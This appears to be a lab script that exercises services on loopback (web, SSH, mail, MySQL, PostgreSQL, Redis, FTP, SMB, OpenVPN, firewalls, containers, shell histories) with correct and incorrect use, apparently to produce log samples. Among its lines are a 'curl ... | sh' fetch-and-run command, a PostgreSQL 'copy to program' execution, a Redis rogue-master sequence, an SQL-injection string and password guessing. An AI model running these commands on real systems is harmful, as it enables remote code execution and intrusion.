#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Uses every service once rightly and once wrongly, as root inside the root that configure.sh set up; talks to loopback alone.
set +e
export LC_ALL=C.UTF-8 HOME=/root
say() { echo "== $*"; }
say web
for p in / /i.php '/i.php?e=1' '/i.php?s=1' /none.html '/?q=union+select+1' '/a%20b?x="y"' /secret/x.html /server-status; do
 for port in 80 8081 8082 8088 8089 8000; do curl -s -m 8 -o /dev/null -A 'curl/"7" lab' -e 'http://ref.example/?a="b"' -H 'X-Forwarded-For: 203.0.113.9, 10.0.0.1' "http://127.0.0.1:$port$p"; done; done
curl -s -m 5 -o /dev/null -u bob:wrong http://127.0.0.1:8088/secret/x.html; curl -s -m 5 -o /dev/null -u nobody:x http://127.0.0.1:8088/secret/x.html; curl -s -o /dev/null -u nobody:x http://127.0.0.1:8088/secret/y.html
curl -s -m 5 -o /dev/null http://127.0.0.1:8082/dead; curl -s -m 5 -o /dev/null http://127.0.0.1:8082/t/none.jsp; curl -s -m 5 -o /dev/null http://127.0.0.1:8080/; curl -s -m 5 -o /dev/null http://127.0.0.1:8002/x; curl -s -m 5 -o /dev/null -d 'a=1' http://127.0.0.1:8088/i.php
printf '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' | nc -q1 127.0.0.1 80; printf 'GET / HTTP/1.1\r\n\r\n' | nc -q1 127.0.0.1 8088; printf '\x16\x03\x01\x02\x00' | nc -q1 127.0.0.1 8088; printf 'GARBAGE\r\n\r\n' | nc -q1 127.0.0.1 8000; printf 'PING\r\nQUIT\r\n' | nc -q1 127.0.0.1 8001; printf '\x00\xff\r\n' | nc -q1 127.0.0.1 80
say ssh
printf '#!/bin/sh\necho wrong\n' > /tmp/ask; printf '#!/bin/sh\necho Right-Horse-9\n' > /tmp/ask2; chmod 755 /tmp/ask*
o="-o StrictHostKeyChecking=accept-new -o UserKnownHostsFile=/root/.ssh/known_hosts"
ssh $o deploy@127.0.0.1 id
for u in admin root deploy; do SSH_ASKPASS=/tmp/ask SSH_ASKPASS_REQUIRE=force setsid -w ssh $o -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=2 $u@127.0.0.1 id; done
sleep 8
SSH_ASKPASS=/tmp/ask2 SSH_ASKPASS_REQUIRE=force setsid -w ssh $o -o PubkeyAuthentication=no deploy@127.0.0.1 'echo ok; exit 3'
printf '/bin/ls /\nquit\n' | sftp $o deploy@127.0.0.1 ; echo hallo > /tmp/f; scp $o /tmp/f deploy@127.0.0.1:/tmp/f2
printf 'SSH-2.0-scan\r\n' | nc -q1 127.0.0.1 22; printf 'GET / HTTP/1.0\r\n\r\n' | nc -q1 127.0.0.1 22; nc -z 127.0.0.1 22; ssh $o -o Ciphers=aes128-cbc deploy@127.0.0.1 id
say accounts
useradd -m -s /bin/sh eve; echo 'eve:Eve-Horse-99' | chpasswd; usermod -aG sudo eve; chage -M 90 eve; gpasswd -a eve adm; groupadd builders; passwd -l eve; usermod -u 1500 eve; su - eve -c id; runuser -u deploy -- bash -c 'echo bad | sudo -S -k id'; runuser -u deploy -- bash -c 'echo Right-Horse-9 | sudo -S -k ls /root'; runuser -u alice -- bash -c 'echo Other-Horse-9 | sudo -S -k id'; runuser -u alice -- bash -c 'echo wrong | su - root -c id'; runuser -u alice -- pkexec id < /dev/null; deluser eve sudo 2>/dev/null; userdel -r eve; groupdel builders; visudo -c
say mail
printf 'Subject: t\n\nhello\n' | sendmail -f deploy@app01 root deploy; (sleep 1; echo 'EHLO x'; sleep 1; echo 'MAIL FROM:<a@x.example>'; sleep 1; echo 'RCPT TO:<b@y.example>'; sleep 1; echo QUIT; sleep 1) | nc -q2 127.0.0.1 25; printf 'to nowhere\n' | sendmail nobody@nowhere.invalid
(echo 'a login deploy wrong'; sleep 3; echo 'b login deploy Right-Horse-9'; sleep 2; echo 'c select inbox'; sleep 1; echo 'd logout'; sleep 1) | nc -q2 127.0.0.1 143; (echo USER deploy; sleep 1; echo PASS wrong; sleep 3; echo QUIT) | nc -q1 127.0.0.1 110
say databases
mysql -e "create database shop; use shop; create table t(a int primary key, b text); insert into t values (1,'x\ny'),(2,'中文'); update t set b='z'; select sleep(0.2); drop table t; create user 'u'@'%' identified by 'pw'; grant all on shop.* to 'u'@'%'"
mysql -h127.0.0.1 -uu -pwrong -e 'select 1'; mysql -h127.0.0.1 -uu -ppw shop -e "select 1; select * from nope"; mysqladmin flush-logs
printf 'select 1;\nshow databases;\n\\q\n' | timeout 15 script -qc 'mysql' /dev/null > /dev/null
su postgres -c "psql -c 'create database shop' -c \"create user u password 'pw'\""; PGPASSWORD=wrong psql -h 127.0.0.1 -U u shop -c 'select 1'; PGPASSWORD=pw psql -h 127.0.0.1 -U u shop -c "select 1" -c 'select * from nope' -c "select 'a
b'"; PGPASSWORD=pw psql -h 127.0.0.1 -U u none -c 'select 1'; su postgres -c "psql -c \"copy (select 1) to program 'id > /tmp/pgid'\""
printf 'select 2;\n\\q\n' | timeout 15 script -qc 'su postgres -c psql' /dev/null > /dev/null
redis-cli set a b; redis-cli config set dir /tmp; redis-cli config set dbfilename x.so; redis-cli bgsave; sleep 1; redis-cli slaveof 192.0.2.9 6379; sleep 2; redis-cli slaveof no one; redis-cli config set dir /var/lib/redis; printf 'get a\nquit\n' | timeout 15 script -qc redis-cli /dev/null > /dev/null
say ftp and smb and vpn
printf 'user deploy Right-Horse-9\nput /tmp/f up.txt\nget up.txt /tmp/down\ndelete up.txt\nmkdir d\nquit\n' | ftp -n -p 127.0.0.1; printf 'user deploy nope\nquit\n' | ftp -n 127.0.0.1; printf 'user ghost x\nquit\n' | ftp -n 127.0.0.1
(echo Smb-9; echo Smb-9) | smbpasswd -s -a deploy; smbclient //127.0.0.1/lab -U deploy%Smb-9 -c 'put /tmp/f a.txt; mkdir q; rename a.txt b.txt; del b.txt'; smbclient //127.0.0.1/lab -U deploy%bad -c ls; smbclient -N -L //127.0.0.1; smbclient //127.0.0.1/nope -U deploy%Smb-9 -c ls
cd /etc/openvpn/server; timeout 12 openvpn --client --dev tun --proto udp --remote 127.0.0.1 1194 --ca ca.crt --cert client.crt --key client.key --nobind --verb 3 --log-append /var/log/openvpn/client.log; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=evil -keyout /tmp/e.key -out /tmp/e.crt; timeout 8 openvpn --client --dev tun --proto udp --remote 127.0.0.1 1194 --ca ca.crt --cert /tmp/e.crt --key /tmp/e.key --nobind --verb 1; cd /
say firewalls
nft add table inet lab; nft 'add chain inet lab in { type filter hook input priority 0; }'; nft 'add rule inet lab in tcp dport 4444 log prefix "NFT-DROP " drop'; iptables -A INPUT -p tcp --dport 4445 -j LOG --log-prefix 'IPT DENY: ' --log-uid; iptables -A INPUT -p tcp --dport 4445 -j DROP; timeout 2 nc -z -w1 127.0.0.1 4444; timeout 2 nc -z -w1 127.0.0.1 4445
ufw --force enable; ufw logging high; ufw deny 4446/tcp; ip addr add 192.0.2.50/32 dev lo; timeout 2 nc -z -w1 192.0.2.50 4446; nft flush table inet lab; ufw status; ufw disable
say containers
mkdir -p /tmp/img/bin /tmp/img/etc; cp /bin/busybox /tmp/img/bin/; ln -s busybox /tmp/img/bin/sh; for a in ls cat echo id touch; do ln -s busybox /tmp/img/bin/$a; done; echo 'root:x:0:0:root:/:/bin/sh' > /tmp/img/etc/passwd
tar -C /tmp/img -c . | docker import - lab:1; docker run --name shop --network none lab:1 sh -c 'echo out; echo err >&2; touch /tmp.new; echo "quote \" é 中"'; docker run --name bad --network none lab:1 sh -c 'exit 7'; docker ps -a; docker logs shop
tar -C /tmp/img -c . | podman import - lab:1; podman run --name pod1 --network none --log-driver k8s-file lab:1 sh -c 'echo pod out; echo pod err >&2'; podman ps -a
say histories
H='export HISTFILE=~/.bash_history; set -o history'
printf 'export HISTTIMEFORMAT="%%F %%T "\nwhoami\ncd /tmp\nhistory -a\nexit\n' | timeout 15 script -qc 'su - deploy' /dev/null > /dev/null
touch /home/alice/.zshrc; printf 'HISTFILE=~/.zsh_history\nHISTSIZE=100\nSAVEHIST=100\nsetopt EXTENDED_HISTORY INC_APPEND_HISTORY\n' > /home/alice/.zshrc; chown alice /home/alice/.zshrc; printf 'echo zsh 中\ncurl -s http://x.example | sh\nfor i in 1; do\necho $i\ndone\nexit\n' | timeout 15 script -qc 'su - alice' /dev/null > /dev/null
printf 'echo fish\nset -x A 1\nexit\n' | timeout 15 script -qc 'su - deploy -c fish' /dev/null > /dev/null; sleep 1
printf 'import os\nos.getuid()\nexit()\n' | timeout 15 script -qc 'su - deploy -c python3' /dev/null > /dev/null
printf '.tables\nselect 1;\n.quit\n' | timeout 15 script -qc 'su - deploy -c sqlite3' /dev/null > /dev/null
printf ':e /etc/hosts\n/localhost\n:q\n' | TERM=xterm timeout 15 script -qc 'su - deploy -c "vim /etc/passwd"' /dev/null > /dev/null; (sleep 1; printf '/root\n'; sleep 1; printf 'q') | TERM=xterm timeout 15 script -qc 'su - deploy -c "less /etc/passwd"' /dev/null > /dev/null
su - deploy -c 'wget -q -O /dev/null http://127.0.0.1/; wget -q https://127.0.0.1/'; printf '%s\n' '# HSTS 1.0 Known Hosts database for GNU Wget.' > /dev/null
say jobs
echo 'id > /tmp/at.out' | at now + 1 minute; echo 'id' | at 2345 tomorrow; su - deploy -c '(echo "5 4 * * * /home/deploy/b.sh") | crontab -'; crontab -l -u deploy; systemd-run --on-active=2s --unit lab-timer /bin/true
say crashes
ulimit -c unlimited; su - deploy -c 'ulimit -c unlimited; sh -c "kill -SEGV \$\$"'; sleep 4; coredumpctl list --no-pager; ls -l /var/lib/systemd/coredump
say updates
unattended-upgrade --dry-run -d > /dev/null 2>&1; apt-get -y remove ftp > /dev/null 2>&1; dpkg -l | tail -1
say odd
logger -p kern.warn -t kernel 'not really kernel'; logger -t 'tag with space[12]' 'x'; logger --rfc5424 -n 127.0.0.1 x; auditctl -l; touch /etc/passwd; ausearch -m USER_LOGIN 2>/dev/null | tail -2
last -F | head -20
lastb | head
lastlog | head -5
